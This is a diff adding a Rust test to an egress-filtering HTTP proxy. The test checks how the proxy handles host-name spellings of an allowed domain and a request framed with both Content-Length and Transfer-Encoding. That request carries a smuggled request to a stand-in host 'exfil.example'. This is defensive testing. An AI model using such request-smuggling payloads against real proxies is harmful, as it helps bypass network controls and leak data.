@@ -974,4 +974,92 @@ mod tests {
             ]
         );
     }
+
+    /// Variants a hostile child with a shell would try next: a CONNECT to the proxy's
+    /// own listener, an allowed name in upper case with a trailing dot (allowed, and
+    /// resolved as the name it is), a punycode label under an allowed domain, a Unicode
+    /// one, and a request that frames its body twice (Content-Length and
+    /// Transfer-Encoding) to slip a second request past the proxy inside its body.
+    #[tokio::test]
+    async fn spellings_of_an_allowed_host_pass_and_a_request_framed_twice_smuggles_nothing() {
+        let echo = echo_server().await;
+        let names = [
+            ("api.allowed.test", "127.0.0.1"),
+            ("xn--bcher-kva.allowed.test", "127.0.0.1"),
+        ];
+        let p = start(echo, &["*.allowed.test"], &names, Limits::default());
+        let (_, status, _) = connect(p.proxy, &p.proxy.to_string()).await;
+        assert_eq!(status, 403, "the proxy's own listener");
+        for target in [
+            format!("API.Allowed.TEST.:{}", echo.port()),
+            format!("xn--bcher-kva.allowed.test:{}", echo.port()),
+        ] {
+            let (mut s, status, _) = connect(p.proxy, &target).await;
+            assert_eq!(status, 200, "CONNECT {target}");
+            s.write_all(b"ping").await.unwrap();
+            let mut got = [0u8; 4];
+            s.read_exact(&mut got).await.unwrap();
+            assert_eq!(&got, b"ping");
+        }
+        let (_, status, _) = connect(p.proxy, "bücher.exfil.example:443").await;
+        assert_eq!(status, 400);
+
+        // The upstream: an allowed host that records every head it reads.
+        let upstream = TcpListener::bind("127.0.0.1:0").await.unwrap();
+        let upstream_addr = upstream.local_addr().unwrap();
+        let (seen_tx, mut seen) = tokio::sync::mpsc::unbounded_channel::<String>();
+        tokio::spawn(async move {
+            while let Ok((mut s, _)) = upstream.accept().await {
+                let seen_tx = seen_tx.clone();
+                tokio::spawn(async move {
+                    let mut all = Vec::new();
+                    let _ =
+                        tokio::time::timeout(Duration::from_millis(500), s.read_to_end(&mut all))
+                            .await;
+                    let _ = seen_tx.send(String::from_utf8_lossy(&all).into_owned());
+                    let _ = s
+                        .write_all(
+                            b"HTTP/1.1 200 OK\r\ncontent-length: 2\r\nconnection: close\r\n\r\nok",
+                        )
+                        .await;
+                });
+            }
+        });
+        let p = start(upstream_addr, &[], &[], Limits::default());
+        for framing in [
+            "Content-Length: 4\r\nTransfer-Encoding: chunked",
+            "Transfer-Encoding: chunked\r\nContent-Length: 4",
+        ] {
+            let mut s = TcpStream::connect(p.proxy).await.unwrap();
+            let smuggled = "GET http://exfil.example/leak HTTP/1.1\r\nHost: exfil.example\r\n\r\n";
+            let request = format!(
+                "POST http://{upstream_addr}/ HTTP/1.1\r\nHost: {upstream_addr}\r\n{framing}\r\n\r\n0\r\n\r\n{smuggled}"
+            );
+            s.write_all(request.as_bytes()).await.unwrap();
+            let mut reply = Vec::new();
+            let _ = tokio::time::timeout(Duration::from_secs(10), s.read_to_end(&mut reply)).await;
+            let reply = String::from_utf8_lossy(&reply).into_owned();
+            let got = tokio::time::timeout(Duration::from_secs(10), seen.recv())
+                .await
+                .ok()
+                .flatten();
+            if let Some(got) = got {
+                let lower = got.to_ascii_lowercase();
+                assert!(
+                    !(lower.contains("content-length") && lower.contains("transfer-encoding")),
+                    "{framing}: the upstream saw both framings: {got:?}"
+                );
+                assert!(!got.contains("exfil.example"), "{framing}: {got:?}");
+            }
+            // Refused outright, or answered once: the smuggled request is judged as its
+            // own (a 403) or never read, and never answered from upstream.
+            assert!(
+                reply.starts_with("HTTP/1.1 400")
+                    || reply.matches("HTTP/1.1 200").count() == 1
+                        && (reply.contains("does not allow exfil.example")
+                            || !reply.contains("exfil")),
+                "{framing}: {reply:?}"
+            );
+        }
+    }
 }
